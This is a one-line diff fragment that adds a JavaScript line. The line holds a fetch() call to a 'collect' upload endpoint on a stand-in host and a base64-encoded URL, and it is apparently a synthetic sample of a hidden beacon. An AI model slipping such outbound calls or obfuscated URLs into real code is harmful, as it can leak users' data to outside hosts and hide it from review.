@@ -1,0 +1,1 @@
+/* http://d.example */ fetch('https://collect.example.net/up?a=1'); x='aHR0cHM6Ly9lLmV4YW1wbGUv'
